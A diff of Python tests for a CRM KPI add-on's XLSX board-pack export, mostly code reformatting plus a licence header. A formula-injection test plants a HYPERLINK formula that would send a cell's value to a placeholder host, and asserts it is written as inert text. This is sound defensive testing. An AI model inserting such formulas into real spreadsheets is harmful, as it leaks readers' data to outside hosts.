@@ -1,3 +1,5 @@
+# Copyright 2026 crm_kpi contributors
+# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
 import io
 import json
 from datetime import date
@@ -72,21 +74,40 @@ class TestXlsx(KpiCase):
             {"name": "KPI Board Service", "type": "service", "list_price": 1.0}
         )
         p1, p2 = cls.env["res.partner"].create(
-            [{"name": "KPI Board P1", "is_company": True}, {"name": "KPI Board P2", "is_company": True}]
+            [
+                {"name": "KPI Board P1", "is_company": True},
+                {"name": "KPI Board P2", "is_company": True},
+            ]
         )
         # orders in the company currency (a USD order would need a USD rate)
-        pricelist = cls.env["product.pricelist"].create({
-            "name": "KPI Board EUR", "currency_id": cls.eur.id, "company_id": cls.company.id,
-        })
-        for partner, when, amount in ((p1, dt(2026, 1, 10), 1000), (p2, dt(2026, 3, 15), 500)):
-            order = cls.env["sale.order"].create({
-                "partner_id": partner.id,
+        pricelist = cls.env["product.pricelist"].create(
+            {
+                "name": "KPI Board EUR",
+                "currency_id": cls.eur.id,
                 "company_id": cls.company.id,
-                "pricelist_id": pricelist.id,
-                "team_id": A.id,
-                "order_line": [(0, 0, {"product_id": product.id, "product_uom_qty": 1,
-                                       "price_unit": amount, "tax_ids": False})],
-            })
+            }
+        )
+        for partner, when, amount in ((p1, dt(2026, 1, 10), 1000), (p2, dt(2026, 3, 15), 500)):
+            order = cls.env["sale.order"].create(
+                {
+                    "partner_id": partner.id,
+                    "company_id": cls.company.id,
+                    "pricelist_id": pricelist.id,
+                    "team_id": A.id,
+                    "order_line": [
+                        (
+                            0,
+                            0,
+                            {
+                                "product_id": product.id,
+                                "product_uom_qty": 1,
+                                "price_unit": amount,
+                                "tax_ids": False,
+                            },
+                        )
+                    ],
+                }
+            )
             order.action_confirm()
             cls._set_dates(order, date_order=when)
         cls.codes = ["win_rate", "sales_cycle", "net_new_revenue"]
@@ -97,12 +118,18 @@ class TestXlsx(KpiCase):
             )
         cls._mrr_movements(p1, p2)
         cls.Snapshot.compute_snapshots(
-            "month", date(2026, 1, 1), date(2026, 3, 31), kpi_codes=["net_new_mrr"],
+            "month",
+            date(2026, 1, 1),
+            date(2026, 3, 31),
+            kpi_codes=["net_new_mrr"],
             company_ids=[cls.company.id],
         )
         cls.kpi_user = new_test_user(
-            cls.env, "kpi_board_user", groups="crm_kpi.crm_kpi_group_user",
-            company_id=cls.company.id, company_ids=[cls.company.id],
+            cls.env,
+            "kpi_board_user",
+            groups="crm_kpi.crm_kpi_group_user",
+            company_id=cls.company.id,
+            company_ids=[cls.company.id],
         )
 
     @classmethod
@@ -116,25 +143,45 @@ class TestXlsx(KpiCase):
             {"currency_id": usd.id, "company_id": cls.company.id, "name": "2026-01-01", "rate": 2.0}
         )
         template = cls.env["sale.subscription.template"].create({"name": "KPI board monthly"})
-        pricelist = cls.env["product.pricelist"].create({
-            "name": "KPI board", "currency_id": cls.eur.id, "company_id": cls.company.id,
-        })
-        s1, s2 = cls.env["sale.subscription"].create([
-            {"partner_id": partner.id, "company_id": cls.company.id, "template_id": template.id,
-             "pricelist_id": pricelist.id}
-            for partner in (p1, p2)
-        ])
-        cls.env["crm.kpi.subscription.movement"].sudo().create([
-            {"subscription_id": sub.id, "partner_id": sub.partner_id.id,
-             "company_id": cls.company.id, "currency_id": currency.id, "team_id": cls.team_a.id,
-             "date": day, "movement_type": kind, "mrr_before": before, "mrr_after": after}
-            for sub, currency, day, kind, before, after in (
-                (s1, cls.eur, "2026-01-10", "start", 0, 100),
-                (s1, cls.eur, "2026-02-10", "pause", 100, 0),
-                (s1, cls.eur, "2026-03-05", "upgrade", 100, 300),
-                (s2, usd, "2026-03-01", "start", 0, 50),
-            )
-        ])
+        pricelist = cls.env["product.pricelist"].create(
+            {
+                "name": "KPI board",
+                "currency_id": cls.eur.id,
+                "company_id": cls.company.id,
+            }
+        )
+        s1, s2 = cls.env["sale.subscription"].create(
+            [
+                {
+                    "partner_id": partner.id,
+                    "company_id": cls.company.id,
+                    "template_id": template.id,
+                    "pricelist_id": pricelist.id,
+                }
+                for partner in (p1, p2)
+            ]
+        )
+        cls.env["crm.kpi.subscription.movement"].sudo().create(
+            [
+                {
+                    "subscription_id": sub.id,
+                    "partner_id": sub.partner_id.id,
+                    "company_id": cls.company.id,
+                    "currency_id": currency.id,
+                    "team_id": cls.team_a.id,
+                    "date": day,
+                    "movement_type": kind,
+                    "mrr_before": before,
+                    "mrr_after": after,
+                }
+                for sub, currency, day, kind, before, after in (
+                    (s1, cls.eur, "2026-01-10", "start", 0, 100),
+                    (s1, cls.eur, "2026-02-10", "pause", 100, 0),
+                    (s1, cls.eur, "2026-03-05", "upgrade", 100, 300),
+                    (s2, usd, "2026-03-01", "start", 0, 50),
+                )
+            ]
+        )
 
     def _options(self, **overrides):
         return {
@@ -179,7 +226,9 @@ class TestXlsx(KpiCase):
         book = self._render(data={"board_pack": self._options()})
         self.assertEqual(
             book.sheetnames,
-            self._expected_sheets("Summary", "Charts", "Team A", "Team B", "Movements", "Definitions"),
+            self._expected_sheets(
+                "Summary", "Charts", "Team A", "Team B", "Movements", "Definitions"
+            ),
         )
         self.assertEqual(book.properties.title, "KPI Board Pack - KPI Test Co")
 
@@ -187,14 +236,27 @@ class TestXlsx(KpiCase):
         self.assertEqual(summary["A1"].value, "KPI Test Co: Whole company")
         self.assertEqual(
             [cell.value for cell in summary[4]],
-            ["KPI", "Code", "Unit", "Jan 2026", "Feb 2026", "Mar 2026",
-             "Δ vs previous (Feb 2026)", "Δ vs last year (Mar 2025)"],
+            [
+                "KPI",
+                "Code",
+                "Unit",
+                "Jan 2026",
+                "Feb 2026",
+                "Mar 2026",
+                "Δ vs previous (Feb 2026)",
+                "Δ vs last year (Mar 2025)",
+            ],
         )
         self.assertEqual(summary.freeze_panes, "D5")
         # catalog order: sales cycle (40), win rate (140), net new revenue (160)
-        self.assertEqual([summary.cell(row, 2).value for row in (5, 6, 7)], [
-            "sales_cycle", "win_rate", "net_new_revenue",
-        ])
+        self.assertEqual(
+            [summary.cell(row, 2).value for row in (5, 6, 7)],
+            [
+                "sales_cycle",
+                "win_rate",
+                "net_new_revenue",
+            ],
+        )
         rows = self._rows_by_code(summary)
         win_rate = rows["win_rate"]
         self.assertEqual(win_rate[0].value, "Win Rate")
@@ -241,8 +303,10 @@ class TestXlsx(KpiCase):
         # A chart needs three values: win rate (66.7, 0, 50) and net new
         # revenue (1,000, 0, 500) have them; the sales cycle (15, n/a, 7) not.
         self.assertEqual(len(charts._charts), 2)
-        self.assertEqual([charts["A5"].value, charts["A6"].value, charts["A7"].value],
-                         ["Win Rate", "Net New Revenue", None])
+        self.assertEqual(
+            [charts["A5"].value, charts["A6"].value, charts["A7"].value],
+            ["Win Rate", "Net New Revenue", None],
+        )
         self.assertEqual(charts["B4"].value, "Jan 2026")
         self.assertFalse(charts.print_title_rows)  # would print over the charts
         self.assertTrue(summary.print_title_rows)
@@ -250,8 +314,18 @@ class TestXlsx(KpiCase):
         movements = book["Movements"]
         self.assertEqual(
             [movements.cell(row, 1).value for row in range(5, 15)],
-            ["Start", "Renewal", "Upgrade", "Downgrade", "Pause", "Resume", "Close",
-             "Reactivation", "Net new MRR from the ledger (EUR)", "Net new MRR (KPI)"],
+            [
+                "Start",
+                "Renewal",
+                "Upgrade",
+                "Downgrade",
+                "Pause",
+                "Resume",
+                "Close",
+                "Reactivation",
+                "Net new MRR from the ledger (EUR)",
+                "Net new MRR (KPI)",
+            ],
         )
 
         def line(row):
@@ -272,7 +346,13 @@ class TestXlsx(KpiCase):
         win_rate_row = next(r for r in definitions.iter_rows(min_row=5) if r[0].value == "win_rate")
         self.assertEqual(
             [c.value for c in win_rate_row[4:9]],
-            ["Percent", "Higher is better", "Ratio (sum of numerators / sum of denominators)", 20, 10],
+            [
+                "Percent",
+                "Higher is better",
+                "Ratio (sum of numerators / sum of denominators)",
+                20,
+                10,
+            ],
         )
 
     def test_dashboard_and_workbook_agree(self):
@@ -281,13 +361,19 @@ class TestXlsx(KpiCase):
         table of units): 50.0 %, +50.0 pp, 7.0 days, 500.00 €, +500.00 €."""
         book = self._render(data={"board_pack": self._options(scope="company")})
         rows = self._rows_by_code(book["Summary"])
-        data = self.env["crm.kpi.dashboard"].with_company(self.company).get_dashboard_data(
-            "month", "2026-03-15"
+        data = (
+            self.env["crm.kpi.dashboard"]
+            .with_company(self.company)
+            .get_dashboard_data("month", "2026-03-15")
         )
         cards = {card["code"]: card for card in data["cards"]}
 
         def shown(cell):
-            return cell.value if isinstance(cell.value, str) else render_xlsx(cell.number_format, cell.value)
+            return (
+                cell.value
+                if isinstance(cell.value, str)
+                else render_xlsx(cell.number_format, cell.value)
+            )
 
         texts = {}
         for code in self.codes:
@@ -297,11 +383,14 @@ class TestXlsx(KpiCase):
                 delta = card["delta_previous"]["text"] if card["delta_previous"] else "n/a"
                 self.assertEqual(delta, shown(row[6]))
                 texts[code] = (card["value_text"], delta)
-        self.assertEqual(texts, {
-            "win_rate": ("50.0 %", "+50.0 pp"),
-            "sales_cycle": ("7.0 days", "n/a"),
-            "net_new_revenue": ("500.00 €", "+500.00 €"),
-        })
+        self.assertEqual(
+            texts,
+            {
+                "win_rate": ("50.0 %", "+50.0 pp"),
+                "sales_cycle": ("7.0 days", "n/a"),
+                "net_new_revenue": ("500.00 €", "+500.00 €"),
+            },
+        )
 
     def test_sheets_and_columns_are_data(self):
         """What an inheriting add-on extends: the list of sheets and the
@@ -315,11 +404,16 @@ class TestXlsx(KpiCase):
         columns = Report._kpi_sheet_columns(pack, summary, summary.read_board())
         self.assertEqual(
             [(column["key"], column["header"]) for column in columns],
-            [("name", "KPI"), ("code", "Code"), ("unit", "Unit"),
-             ("month:2026-01-01", "Jan 2026"), ("month:2026-02-01", "Feb 2026"),
-             ("month:2026-03-01", "Mar 2026"),
-             ("delta_previous", "Δ vs previous (Feb 2026)"),
-             ("delta_last_year", "Δ vs last year (Mar 2025)")],
+            [
+                ("name", "KPI"),
+                ("code", "Code"),
+                ("unit", "Unit"),
+                ("month:2026-01-01", "Jan 2026"),
+                ("month:2026-02-01", "Feb 2026"),
+                ("month:2026-03-01", "Mar 2026"),
+                ("delta_previous", "Δ vs previous (Feb 2026)"),
+                ("delta_last_year", "Δ vs last year (Mar 2025)"),
+            ],
         )
 
     def _count_queries(self, data):
@@ -338,9 +432,16 @@ class TestXlsx(KpiCase):
         self.assertLessEqual(three, 40)
 
     def test_salesperson_sheets_and_options(self):
-        book = self._render(data={"board_pack": self._options(
-            scope="user", user_ids=[self.user_2.id], include_goals=False, include_definitions=False,
-        )})
+        book = self._render(
+            data={
+                "board_pack": self._options(
+                    scope="user",
+                    user_ids=[self.user_2.id],
+                    include_goals=False,
+                    include_definitions=False,
+                )
+            }
+        )
         # a sheet name holds at most 31 characters
         seller = sheet_name(self.user_2.name)
         self.assertEqual(book.sheetnames, ["Summary", "Charts", seller, "Movements", "Cohorts"])
@@ -351,19 +452,28 @@ class TestXlsx(KpiCase):
 
     def test_goals_sheet(self):
         Goal = self.env["crm.kpi.goal"]
-        goal = Goal.create({
-            "name": "Win more deals", "kpi_id": self.env.ref("crm_kpi.crm_kpi_definition_win_rate").id,
-            "scope": "team", "team_id": self.team_a.id, "company_id": self.company.id,
-            "date_start": "2026-01-01", "deadline": "2026-03-31",
-            "baseline_value": 20, "target_value": 60,
-        })
+        goal = Goal.create(
+            {
+                "name": "Win more deals",
+                "kpi_id": self.env.ref("crm_kpi.crm_kpi_definition_win_rate").id,
+                "scope": "team",
+                "team_id": self.team_a.id,
+                "company_id": self.company.id,
+                "date_start": "2026-01-01",
+                "deadline": "2026-03-31",
+                "baseline_value": 20,
+                "target_value": 60,
+            }
+        )
         goal.action_start()
         book = self._render(data={"board_pack": self._options(scope="company")})
         # the fixed columns of the goal model, in order, then one row per goal
         columns = [name for name in GOAL_COLUMNS if name in Goal._fields]
         strings = Goal.fields_get(columns, ["string"])
         sheet = book["Goals"]
-        self.assertEqual([cell.value for cell in sheet[4]], [strings[name]["string"] for name in columns])
+        self.assertEqual(
+            [cell.value for cell in sheet[4]], [strings[name]["string"] for name in columns]
+        )
         row = {name: sheet[5][index].value for index, name in enumerate(columns)}
         self.assertEqual(row["name"], "Win more deals")
         self.assertEqual(row["team_id"], "Team A")
@@ -371,23 +481,30 @@ class TestXlsx(KpiCase):
         self.assertEqual(row["baseline_value"], 20)
         self.assertAlmostEqual(row["current_value"], goal.current_value, places=4)
         self.assertEqual(
-            row["status"], dict(Goal._fields["status"]._description_selection(self.env))[goal.status]
+            row["status"],
+            dict(Goal._fields["status"]._description_selection(self.env))[goal.status],
         )
         # without goals asked for, no sheet
-        book = self._render(data={"board_pack": self._options(scope="company", include_goals=False)})
+        book = self._render(
+            data={"board_pack": self._options(scope="company", include_goals=False)}
+        )
         self.assertNotIn("Goals", book.sheetnames)
 
     def test_board_pack_of_selected_snapshots(self):
-        snapshots = self.Snapshot.search([
-            ("company_id", "=", self.company.id),
-            ("kpi_code", "=", "win_rate"),
-            ("date_start", ">=", "2026-01-01"),
-            ("dimension", "in", ["company", "team"]),
-        ])
+        snapshots = self.Snapshot.search(
+            [
+                ("company_id", "=", self.company.id),
+                ("kpi_code", "=", "win_rate"),
+                ("date_start", ">=", "2026-01-01"),
+                ("dimension", "in", ["company", "team"]),
+            ]
+        )
         book = self._render(snapshots.ids)
         self.assertEqual(
             book.sheetnames,
-            self._expected_sheets("Summary", "Charts", "Team A", "Team B", "Movements", "Definitions"),
+            self._expected_sheets(
+                "Summary", "Charts", "Team A", "Team B", "Movements", "Definitions"
+            ),
         )
         rows = self._rows_by_code(book["Summary"])
         self.assertEqual(list(rows), ["win_rate"])
@@ -396,10 +513,18 @@ class TestXlsx(KpiCase):
         self.assertEqual(rows["win_rate"][7].value, "n/a")
 
     def test_wizard(self):
-        wizard = self.env["crm.kpi.export.wizard"].with_company(self.company).create({
-            "date_from": "2026-01-01", "date_to": "2026-03-31", "scope": "team",
-            "team_ids": [(6, 0, self.team_a.ids)],
-        })
+        wizard = (
+            self.env["crm.kpi.export.wizard"]
+            .with_company(self.company)
+            .create(
+                {
+                    "date_from": "2026-01-01",
+                    "date_to": "2026-03-31",
+                    "scope": "team",
+                    "team_ids": [(6, 0, self.team_a.ids)],
+                }
+            )
+        )
         self.assertEqual(wizard.kpi_ids, self.env["crm.kpi.definition"].search([]))
         action = wizard.action_export()
         self.assertEqual(action["type"], "ir.actions.report")
@@ -410,13 +535,21 @@ class TestXlsx(KpiCase):
         book = self._render(data=action["data"])
         self.assertEqual(book.sheetnames[:3], ["Summary", "Charts", "Team A"])
         # opened from selected snapshots: their range, period type and KPIs
-        march = self.Snapshot.search([
-            ("company_id", "=", self.company.id), ("date_start", "=", "2026-03-01"),
-            ("kpi_code", "=", "win_rate"),
-        ])
-        defaults = self.env["crm.kpi.export.wizard"].with_context(
-            active_model="crm.kpi.snapshot", active_ids=march.ids,
-        ).default_get(["date_from", "date_to", "period_type", "kpi_ids", "company_id"])
+        march = self.Snapshot.search(
+            [
+                ("company_id", "=", self.company.id),
+                ("date_start", "=", "2026-03-01"),
+                ("kpi_code", "=", "win_rate"),
+            ]
+        )
+        defaults = (
+            self.env["crm.kpi.export.wizard"]
+            .with_context(
+                active_model="crm.kpi.snapshot",
+                active_ids=march.ids,
+            )
+            .default_get(["date_from", "date_to", "period_type", "kpi_ids", "company_id"])
+        )
         self.assertEqual(defaults["date_from"], date(2026, 3, 1))
         self.assertEqual(defaults["date_to"], date(2026, 3, 31))
         self.assertEqual(defaults["company_id"], self.company.id)
@@ -430,8 +563,11 @@ class TestXlsx(KpiCase):
     def test_kpi_user_of_another_company_exports_nothing(self):
         other = self.env["res.company"].create({"name": "KPI Other Co"})
         outsider = new_test_user(
-            self.env, "kpi_board_outsider", groups="crm_kpi.crm_kpi_group_user",
-            company_id=other.id, company_ids=[other.id],
+            self.env,
+            "kpi_board_outsider",
+            groups="crm_kpi.crm_kpi_group_user",
+            company_id=other.id,
+            company_ids=[other.id],
         )
         snapshots = self.Snapshot.search([("company_id", "=", self.company.id)])
         self.assertTrue(snapshots)
@@ -449,21 +585,27 @@ class TestXlsx(KpiCase):
         written as that text on every sheet, never as a live formula that
         would run in every reader's spreadsheet."""
         win_rate = self.kpis.filtered(lambda kpi: kpi.code == "win_rate")
-        win_rate.write({
-            "name": '=HYPERLINK("http://example.invalid/"&A1,"open")',
-            "description": "=1+1",
-        })
+        win_rate.write(
+            {
+                "name": '=HYPERLINK("http://example.invalid/"&A1,"open")',
+                "description": "=1+1",
+            }
+        )
         book = self._render(data={"board_pack": self._options()})
         texts = []
         for sheet in book.worksheets:
             for row in sheet.iter_rows():
                 for cell in row:
-                    self.assertNotEqual(cell.data_type, "f", f"formula in {sheet.title}!{cell.coordinate}")
+                    self.assertNotEqual(
+                        cell.data_type, "f", f"formula in {sheet.title}!{cell.coordinate}"
+                    )
                     if isinstance(cell.value, str) and cell.value.startswith("="):
                         texts.append((sheet.title, cell.value))
         # Summary, Charts, the two team sheets: the name; Definitions: both
         names = [sheet for sheet, text in texts if text.startswith("=HYPERLINK")]
-        self.assertEqual(sorted(set(names)), ["Charts", "Definitions", "Summary", "Team A", "Team B"])
+        self.assertEqual(
+            sorted(set(names)), ["Charts", "Definitions", "Summary", "Team A", "Team B"]
+        )
         self.assertIn(("Definitions", "=1+1"), texts)
 
     def test_unavailable_kpis_are_left_out(self):
@@ -473,28 +615,39 @@ class TestXlsx(KpiCase):
         win_rate.required_model = "crm_kpi.model.not.installed"
         book = self._render(data={"board_pack": self._options()})
         for title in ("Summary", "Team A", "Definitions"):
-            codes = [row[0 if title == "Definitions" else 1].value for row in book[title].iter_rows(min_row=5)]
+            codes = [
+                row[0 if title == "Definitions" else 1].value
+                for row in book[title].iter_rows(min_row=5)
+            ]
             self.assertIn("sales_cycle", codes)
             self.assertNotIn("win_rate", codes, title)
 
     def test_columns_fit_their_headers_and_names(self):
         """Every header and KPI name is readable without widening a column:
         the width (in characters) is at least the text's length."""
-        self.kpis.filtered(lambda kpi: kpi.code == "win_rate").name = (
-            "Win rate of qualified opportunities handed over by marketing"  # 60 characters
+        self.kpis.filtered(
+            lambda kpi: kpi.code == "win_rate"
+        ).name = "Win rate of qualified opportunities handed over by marketing"  # 60 characters
+        self.env["crm.kpi.goal"].with_company(self.company).create(
+            {
+                "name": "Win more",
+                "kpi_id": self.kpis.filtered(lambda kpi: kpi.code == "win_rate").id,
+                "scope": "company",
+                "company_id": self.company.id,
+                "date_start": "2026-01-01",
+                "deadline": "2026-03-31",
+                "baseline_value": 20,
+                "target_value": 40,
+            }
         )
-        self.env["crm.kpi.goal"].with_company(self.company).create({
-            "name": "Win more", "kpi_id": self.kpis.filtered(lambda kpi: kpi.code == "win_rate").id,
-            "scope": "company", "company_id": self.company.id,
-            "date_start": "2026-01-01", "deadline": "2026-03-31",
-            "baseline_value": 20, "target_value": 40,
-        })
         book = self._render(data={"board_pack": self._options()})
         for title in ("Summary", "Goals", "Definitions"):
             sheet = book[title]
             for row in (4, 5, 6, 7):
                 for cell in sheet[row]:
-                    if not isinstance(cell.value, str) or (title == "Definitions" and cell.column == 4):
+                    if not isinstance(cell.value, str) or (
+                        title == "Definitions" and cell.column == 4
+                    ):
                         continue  # the description column wraps its text
                     width = sheet.column_dimensions[cell.column_letter].width
                     with self.subTest(sheet=title, cell=cell.coordinate):
@@ -510,11 +663,17 @@ class TestXlsx(KpiCase):
             Report._kpi_file_name(self._options(period_type="quarter", date_to="2026-02-01")),
             "KPI Board Pack - KPI Test Co - Q1 2026",
         )
-        march = self.Snapshot.search([
-            ("company_id", "=", self.company.id), ("date_start", "=", "2026-03-01"),
-            ("period_type", "=", "month"), ("dimension", "=", "company"),
-        ])
-        self.assertEqual(Report._kpi_file_name(None, march.ids), "KPI Board Pack - KPI Test Co - Mar 2026")
+        march = self.Snapshot.search(
+            [
+                ("company_id", "=", self.company.id),
+                ("date_start", "=", "2026-03-01"),
+                ("period_type", "=", "month"),
+                ("dimension", "=", "company"),
+            ]
+        )
+        self.assertEqual(
+            Report._kpi_file_name(None, march.ids), "KPI Board Pack - KPI Test Co - Mar 2026"
+        )
 
 
 @tagged("post_install", "-at_install")
@@ -526,14 +685,19 @@ class TestXlsxDownload(HttpCase):
         company = self.env.ref("base.main_company")
         options = {
             "board_pack": {
-                "date_from": "2026-01-01", "date_to": "2026-03-31", "period_type": "month",
-                "company_id": company.id, "scope": "company", "team_ids": [], "user_ids": [],
-                "kpi_ids": [], "include_goals": False, "include_definitions": True,
+                "date_from": "2026-01-01",
+                "date_to": "2026-03-31",
+                "period_type": "month",
+                "company_id": company.id,
+                "scope": "company",
+                "team_ids": [],
+                "user_ids": [],
+                "kpi_ids": [],
+                "include_goals": False,
+                "include_definitions": True,
             }
         }
-        response = self.url_open(
-            f"/report/xlsx/{REPORT}?options={quote(json.dumps(options))}"
-        )
+        response = self.url_open(f"/report/xlsx/{REPORT}?options={quote(json.dumps(options))}")
         self.assertEqual(response.status_code, 200)
         disposition = unquote(response.headers["Content-Disposition"])
         self.assertIn(f"KPI Board Pack - {company.name} - Jan 2026 to Mar 2026.xlsx", disposition)
